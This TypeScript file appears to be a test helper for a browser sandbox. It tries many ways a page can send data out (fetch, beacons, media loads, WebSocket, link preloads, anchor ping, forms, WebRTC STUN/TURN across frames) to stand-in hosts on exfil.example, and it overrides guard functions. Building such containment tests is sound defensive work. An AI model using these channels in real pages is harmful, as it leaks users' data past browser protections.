/**
 * Everything a page could send itself away by. Runs inside the page, so it uses nothing of this module.
 * @returns what became of each attempt: `done`, or the name of the error
 */
export async function sendAway({ base, stunPort }: { readonly base: string; readonly stunPort: number }) {
  const tried: Record<string, string> = {};
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    try {
      await work();
      tried[name] = 'done';
    } catch (error) {
      tried[name] = error instanceof Error ? error.name : 'refused';
    }
  };
  const loaded = (element: HTMLImageElement | HTMLScriptElement | HTMLVideoElement, src: string): Promise<void> =>
    new Promise((resolve, reject) => {
      element.onload = () => resolve();
      element.onerror = () => reject(new Error('refused'));
      element.src = src;
      document.body.append(element);
    });
  await attempt('fetch', () => fetch(`${base}/fetch`));
  await attempt('fetch https', () => fetch('https://fetch.exfil.example/'));
  await attempt('beacon', () => {
    if (!navigator.sendBeacon(`${base}/beacon`)) throw new Error('refused');
  });
  await attempt('image', () => loaded(new Image(), `${base}/image.png`));
  await attempt('script', () => loaded(document.createElement('script'), `${base}/script.js`));
  await attempt('video', () => loaded(document.createElement('video'), `${base}/video.mp4`));
  await attempt('event source', () => openOf(new EventSource(`${base}/events`)));
  await attempt('socket', () => openOf(new WebSocket('ws://socket.exfil.example/')));
  await attempt('worker', () => new Worker('data:text/javascript,fetch("http://worker.exfil.example/")'));
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'stylesheet', 'modulepreload', 'icon']) {
    const link = document.createElement('link');
    link.rel = rel;
    link.href = `https://${rel}.exfil.example/`;
    document.head.append(link);
  }
  const anchor = document.createElement('a');
  anchor.href = 'https://anchor.exfil.example/';
  anchor.ping = 'https://ping.exfil.example/';
  anchor.textContent = 'out';
  document.body.append(anchor);
  anchor.click();
  await attempt('frame', () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://frame.exfil.example/';
    document.body.append(frame);
  });
  const form = document.createElement('form');
  form.action = 'https://form.exfil.example/';
  document.body.append(form);
  await attempt('form', () => form.submit());
  const urls = [
    `stun:127.0.0.1:${String(stunPort)}`,
    'stun:stun.exfil.example:3478',
    'turn:turn.exfil.example:3478?transport=udp',
    'turn:turntcp.exfil.example:3478?transport=tcp',
    'turns:turns.exfil.example:5349?transport=tcp',
  ];
  const realms: Record<string, unknown> = { 'the page': window };
  // Each frame has WebRTC of its own: at once, once it has loaded, and within another.
  for (const tag of ['iframe', 'IFRAME', 'object', 'embed', 'frame', 'fencedframe', 'h:iframe']) {
    await attempt(tag, async () => {
      const element = tag.startsWith('h:')
        ? document.createElementNS('http://www.w3.org/1999/xhtml', tag)
        : document.createElement(tag);
      document.body.append(element);
      realms[`${tag} at once`] = (element as HTMLIFrameElement).contentWindow;
      await new Promise((resolve) => setTimeout(resolve, 50));
      realms[`${tag} later`] = (element as HTMLIFrameElement).contentWindow;
    });
  }
  await attempt('markup', () => document.body.insertAdjacentHTML('beforeend', '<iframe name="markup"></iframe>'));
  await attempt('fragment', () =>
    document.body.append(document.createRange().createContextualFragment('<iframe></iframe>')),
  );
  await attempt('parser', () => {
    const parsed = new DOMParser().parseFromString('<iframe></iframe>', 'text/html');
    document.body.append(...parsed.body.childNodes);
  });
  await attempt('another document', () => {
    const other = document.implementation.createHTMLDocument('');
    document.body.append(document.adoptNode(other.createElement('iframe')));
  });
  await attempt('replaced guard', () => {
    Reflect.apply = () => null;
    Object.defineProperty(Document.prototype, 'createElement', { value: () => new Image() });
  });
  for (let at = 0; at < window.length; at += 1) realms[`frame ${String(at)}`] = window[at];
  for (const [name, realm] of Object.entries(realms)) {
    await attempt(`WebRTC of ${name}`, async () => {
      const Peer = (realm as { RTCPeerConnection?: typeof RTCPeerConnection }).RTCPeerConnection;
      if (Peer === undefined) throw new ReferenceError('none');
      const peer = new Peer({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    });
  }
  await new Promise((resolve) => setTimeout(resolve, 3_000));
  return tried;

  function openOf(source: EventTarget): Promise<void> {
    return new Promise((resolve, reject) => {
      source.addEventListener('open', () => resolve());
      source.addEventListener('error', () => reject(new Error('refused')));
    });
  }
}
